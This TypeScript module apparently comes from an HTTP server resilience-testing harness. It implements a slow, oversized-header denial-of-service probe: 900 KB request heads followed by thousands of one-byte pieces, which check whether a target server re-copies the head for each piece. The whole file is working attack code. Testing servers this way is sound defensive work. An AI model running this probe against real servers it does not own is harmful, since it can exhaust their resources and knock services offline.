import type { Attack } from '../attack.ts';
import { delay, written } from '../connections.ts';

export const headInPieces: Attack = {
  name: 'head-in-pieces',
  input: '5 request heads of 900 KB, each followed by 4,000 pieces of 1 byte',
  async run({ victim, connections, count }) {
    const begin = Buffer.from(`GET /pods HTTP/1.1\r\nHost: x\r\nX-Odd: ${'a'.repeat(900 * 1024)}`);
    const piece = Buffer.from('a');
    let taken = 0;
    const attackers = Array.from({ length: count(5) }, async () => {
      const client = await connections.connectTls(victim.port, { ALPNProtocols: ['http/1.1'] });
      client.resume();
      await written(client, begin);
      let sent = 0;
      for (; sent < 4000 && !client.closed; sent++) await written(client, piece);
      // The victim's close of a connection is noticed only some time after the last write.
      await delay(1000);
      if (!client.closed) taken++;
    });
    const total = attackers.length;
    await Promise.all(attackers);
    const success =
      taken > 0 ? `${taken} request heads were assembled by copying the whole head for each piece` : undefined;
    return { did: `${total - taken} of ${total} connections were closed`, success };
  },
};
